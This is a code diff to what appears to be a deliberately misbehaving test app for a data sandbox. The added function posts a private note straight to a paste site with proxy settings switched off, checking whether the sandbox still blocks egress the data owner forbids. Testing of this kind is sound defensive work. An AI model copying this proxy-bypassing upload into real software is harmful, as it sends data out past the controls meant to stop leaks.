@@ -5,7 +5,8 @@ X-Sandbox-Subject header and never sees a bearer token. Its predict route
 also reaches out, as real apps do: it fetches model weights from a registry
 (which the data owner allows) and then tries to copy the note to a paste
 site (which the data owner does not). It uses the proxy settings the sandbox
-puts in its environment, like any HTTP client that honours HTTP_PROXY.
+puts in its environment, like any HTTP client that honours HTTP_PROXY; then,
+as a less polite app would, it tries the paste site directly, ignoring them.
 """
 
 from __future__ import annotations
@@ -74,7 +75,25 @@ async def predict_handler(request: web.Request) -> web.Response:
             weights = {"status": r.status, "bytes": len(await r.read())}
         async with outside.post(f"{paste}/upload", data=note) as r:
             leak = {"status": r.status, "answer": (await r.text())[:300]}
-    return web.json_response({"weights": weights, "copy_to_paste_site": leak})
+    bypass = await _post_directly(f"{paste}/upload", note)
+    return web.json_response(
+        {"weights": weights, "copy_to_paste_site": leak, "bypassing_proxy": bypass}
+    )
+
+
+async def _post_directly(url: str, body: bytes) -> str:
+    """What happened when the app ignored its proxy settings."""
+    timeout = aiohttp.ClientTimeout(total=5)
+    try:
+        async with (
+            aiohttp.ClientSession(trust_env=False, timeout=timeout) as direct,
+            direct.post(url, data=body) as response,
+        ):
+            return f"{response.status} - the paste site took the note"
+    except aiohttp.ClientConnectorError as exc:
+        return f"cannot connect: {exc.os_error.strerror or exc.os_error}"
+    except (aiohttp.ClientError, TimeoutError) as exc:
+        return f"failed: {exc!r}"
 
 
 async def health_handler(_: web.Request) -> web.Response:
